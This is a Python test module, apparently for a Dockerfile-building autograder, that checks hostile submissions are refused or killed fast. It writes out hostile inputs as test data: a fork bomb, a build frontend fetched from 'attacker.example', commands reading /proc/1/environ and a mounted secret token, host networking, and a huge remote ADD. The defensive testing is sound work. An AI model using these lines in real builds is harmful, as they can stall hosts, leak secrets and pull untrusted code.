"""Hostile Dockerfiles and builds (threat-model.md cases B1-B14): refused before building, or
built inside limits that end them fast and say why."""

from __future__ import annotations

import secrets
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from advkit import GOOD, INDEX, assert_case, containers_running, run_grade, write_submission

pytestmark = pytest.mark.docker


@contextmanager
def responsiveness() -> Iterator[list[float]]:
    """Measure how late a 50 ms sleep wakes up on the host while the block runs: the machine
    stays responsive when the worst lateness stays small."""
    late: list[float] = [0.0]
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            t0 = time.monotonic()
            time.sleep(0.05)
            late[0] = max(late[0], time.monotonic() - t0 - 0.05)

    worker = threading.Thread(target=probe, daemon=True)
    worker.start()
    try:
        yield late
    finally:
        stop.set()
        worker.join()


def gone(marker: str, wait: float = 5.0) -> bool:
    """No build-step container with `marker` in its command remains (polled up to `wait`)."""
    deadline = time.monotonic() + wait
    while containers_running(marker):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.25)
    return True


def test_b1_fork_bomb_in_build_is_killed_fast(adv_lab, tmp_path: Path) -> None:
    marker = "advmark" + secrets.token_hex(4)
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX,
        "Dockerfile": f"FROM busybox:1.35\nRUN echo {marker}; f(){{ f|f& }}; f; sleep 600\n"})
    with responsiveness() as late:
        g = run_grade(adv_lab, sub, build_timeout=30)
    print(f"B1 fork bomb in build: ended after {g.elapsed:.1f} s; host lateness {late[0]:.2f} s")
    assert_case(g, within=35, score=0)
    assert g.result.build.status.value == "failed"
    assert "killed" in g.text() or "longer than" in g.text()
    assert late[0] < 2.0, f"the host stalled for {late[0]:.1f} s"
    assert gone(marker)


def test_b2_endless_build_is_stopped_at_its_deadline(adv_lab, tmp_path: Path) -> None:
    marker = "advmark" + secrets.token_hex(4)
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX, "Dockerfile": f"FROM busybox:1.35\nRUN echo {marker}; sleep 100000\n"})
    g = run_grade(adv_lab, sub, build_timeout=5)
    print(f"B2 endless build: ended after {g.elapsed:.1f} s (timeout 5 s)")
    assert_case(g, within=12, score=0, says=("took longer than 5 s", "build foi interrompido"))
    assert all(c.status.value == "skipped" for c in g.result.checks)
    assert gone(marker), "the killed build's RUN container is still there"


def test_b3_huge_build_log_is_capped(adv_lab, tmp_path: Path) -> None:
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX,
        "Dockerfile": "FROM busybox:1.35\n"
                      "RUN yes labgrade-flood-line | head -c 5000000; echo; exit 3\n"})
    g = run_grade(adv_lab, sub)
    assert_case(g, within=30, score=0, says=("non-zero code: 3",))
    assert len(g.result.build.log_tail) <= 4000
    assert max(len(r) for r in g.reports.values()) < 200_000


def test_b5_build_steps_have_no_network(adv_lab, tmp_path: Path) -> None:
    """With build_network none, a RUN step sees no interface but loopback: nothing can leave,
    and no packet is sent to find out (the step reads /proc/net/dev)."""
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX,
        "Dockerfile": GOOD.replace("EXPOSE", "RUN if grep -q eth0 /proc/net/dev; then "
                                             "echo has-network-$((6*7)); exit 9; fi\nEXPOSE")})
    g = run_grade(adv_lab, sub)
    assert_case(g, within=30, score=100)
    assert "has-network-42" not in g.result.build.log_tail


def test_b6_syntax_frontend_is_refused_before_building(adv_lab, tmp_path: Path) -> None:
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX, "Dockerfile": "# syntax=attacker.example/frontend:latest\n" + GOOD})
    g = run_grade(adv_lab, sub)
    assert_case(g, within=10, score=0, says=("# syntax=attacker.example/frontend:latest",
                                             "not allowed", "não é permitida"))
    assert g.result.build.status.value == "failed"
    assert g.result.build.duration_s == 0.0
    assert g.result.build.log_tail == ""  # nothing was built; the explanation says why
    assert all("refused" in c.message.en for c in g.result.checks)


@pytest.mark.parametrize("line", [
    "RUN --security=insecure cat /proc/1/environ",
    "RUN --network=host true",
    "RUN --mount=type=cache,target=/c,id=x sh -c 'echo A > /c/f'",
    "RUN --mount=type=secret,id=token cat /run/secrets/token",
    "RUN --mount=type=ssh ssh -T git@example.invalid",
    "WORKDIR /proc/self/fd/7",
    "ADD https://example.invalid/10GB.iso /",
])
def test_b7_forbidden_build_features_are_refused(adv_lab, tmp_path: Path, line: str) -> None:
    sub = write_submission(tmp_path / "s", {
        "index.html": INDEX, "Dockerfile": GOOD.replace("EXPOSE", line + "\nEXPOSE")})
    g = run_grade(adv_lab, sub)
    word = line.split()[1].split("=")[0] if line.startswith("RUN") else line.split()[0]
    assert_case(g, within=10, score=0, says=("Line 3:", "not allowed", word.split(",")[0]))
    assert g.result.build.line == 3
    assert g.result.build.duration_s == 0.0


BIG = b"# a comment line that makes the file large\n" * 50_000


@pytest.mark.parametrize(("files", "says"), [
    ({"index.html": INDEX}, "There is no Dockerfile"),
    ({"index.html": INDEX, "dockerfile": GOOD}, "but there is dockerfile"),
    ({"index.html": INDEX, "Dockerfile/x": "y"}, "is a folder"),
    ({"index.html": INDEX, "Dockerfile": ""}, "is empty"),
    ({"index.html": INDEX, "Dockerfile": BIG + GOOD.encode()}, "over the limit"),
    ({"index.html": INDEX, "Dockerfile": b"\x7fELF\x02\x01\x01\x00\x00\x00" * 100}, "not text"),
    ({"index.html": INDEX, "Dockerfile": GOOD.encode("utf-16")}, "UTF-16"),
], ids=["missing", "lowercase", "directory", "empty", "2MB", "binary", "utf16"])
def test_b13_unusable_dockerfiles(adv_lab, tmp_path: Path, files: dict, says: str) -> None:
    sub = write_submission(tmp_path / "s", files)
    g = run_grade(adv_lab, sub)
    assert_case(g, within=10, score=0, says=(says,))
    assert g.result.build.status.value == "failed"
